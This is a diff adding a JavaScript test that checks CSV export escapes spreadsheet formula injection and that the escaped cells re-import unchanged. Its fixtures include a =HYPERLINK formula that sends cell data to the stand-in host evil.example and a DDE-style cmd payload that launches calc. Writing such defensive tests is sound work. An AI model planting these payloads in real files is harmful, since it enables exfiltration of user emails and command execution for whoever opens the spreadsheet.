@@ -94,6 +94,34 @@ describe('users import', () => {
     expect(exportUsers(users, 'csv')).toBe('id,username,email,note\na,ada,ada@example.com,"says ""hi"", twice"\n');
     expect(JSON.parse(exportUsers(users, 'json'))).toEqual([{ id: 'a', username: 'ada', email: 'ada@example.com', properties: { note: 'says "hi", twice' }, createdBy: null, changedBy: [] }]);
   });
+  it('a cell a spreadsheet would run as a formula is exported behind an apostrophe, and read back as it was', () => {
+    // A captured userId or trait (any web page can post to a webhook) became a live formula in
+    // Excel or Sheets: =HYPERLINK(...) sends the other cells, the emails, wherever it points.
+    const formula = '=HYPERLINK("http://evil.example/?"&C3,"Open")';
+    const { users } = deriveMatching(
+      [
+        { id: formula, username: '+1+cmd|\' /C calc\'!A0', email: 'ada@example.com', properties: { plan: '@SUM(1)', score: '-5', tab: '\tx', '=key': "'=kept", n: '-2+3' } },
+        { id: 'u2', username: "'-quoted", email: 'bob@example.com', properties: { plan: 'pro', score: '+7', tab: '', n: '1e5' } },
+      ],
+      DEFAULTS,
+      [],
+    );
+    const csv = exportUsers(users, 'csv');
+    const lines = csv.trimEnd().split('\n');
+    expect(lines[0]).toBe("id,username,email,'=key,n,plan,score,tab");
+    expect(lines[1]).toBe(`"'=HYPERLINK(""http://evil.example/?""&C3,""Open"")",'+1+cmd|' /C calc'!A0,ada@example.com,''=kept,'-2+3,'@SUM(1),-5,'\tx`);
+    expect(lines[2]).toBe("u2,''-quoted,bob@example.com,,1e5,pro,+7,");
+    // Imported again (the directory's own export is a valid import), every cell is what it was.
+    const table = parseUsersTable(csv);
+    expect(table.columns).toEqual(['id', 'username', 'email', '=key', 'n', 'plan', 'score', 'tab']);
+    const back = usersFromTable(table, suggestMapping(table.columns), new Set());
+    expect(back.errors).toEqual([]);
+    expect(back.users.map((u) => [u.id, u.username, u.properties])).toEqual([
+      [formula, "+1+cmd|' /C calc'!A0", { '=key': "'=kept", n: '-2+3', plan: '@SUM(1)', score: '-5', tab: '\tx' }],
+      ['u2', "'-quoted", { n: '1e5', plan: 'pro', score: '+7' }],
+    ]);
+  });
+
   it('columns named like Object.prototype members are columns like any other (CSV and JSON)', () => {
     // An empty "constructor" cell read Object's constructor, and a "__proto__" column was lost.
     const csv = parseUsersTable('username,constructor,__proto__,toString\nada,,p1,t1\nbob,c2,,\n');
